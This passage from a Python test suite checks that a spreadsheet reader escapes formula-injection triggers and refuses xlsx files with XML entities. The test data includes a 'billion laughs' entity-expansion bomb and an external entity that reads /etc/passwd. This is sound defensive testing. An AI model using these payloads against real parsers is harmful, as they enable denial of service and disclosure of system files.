    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "\x00"}
    for t in FORMULA_TRIGGERS:
        assert formula_safe(f"{t}x") == f"'{t}x"
        assert formula_safe(f"x{t}") == f"x{t}"


# ---------------------------------------------------------------------------------------------------------
# spreadsheets as input: XML entities are refused (openpyxl parses through defusedxml)


def _xlsx_with_entities(path: Path, dtd: str, cell: str) -> Path:
    import zipfile

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["id", "name"])
    ws.append(["1", "PLACEHOLDER"])
    plain = path.with_suffix(".plain.xlsx")
    wb.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8").replace("PLACEHOLDER", cell)
                data = (f'<?xml version="1.0"?>\n<!DOCTYPE worksheet [{dtd}]>\n' + text).encode("utf-8")
            dst.writestr(item, data)
    return path


@pytest.mark.parametrize(
    ("dtd", "cell"),
    [
        ('<!ENTITY a "{{7*7}}">', "&a;"),
        (
            '<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
            '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
            '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">',
            "&h;",
        ),
        ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    ],
    ids=["entity", "billion-laughs", "external-entity"],
)
def test_xlsx_with_xml_entities_is_refused(dtd: str, cell: str, tmp_path: Path) -> None:
    import openpyxl

    assert openpyxl.DEFUSEDXML  # the declared dependency is what makes openpyxl refuse entities
    path = _xlsx_with_entities(tmp_path / "t.xlsx", dtd, cell)
    with pytest.raises(DataFileError, match=r"t\.xlsx: cannot be read as a table"):
        read_table(path)
    assert read_table(_xlsx_with_entities(tmp_path / "ok.xlsx", "", "Ames"))[0]["name"].tolist() == ["Ames"]
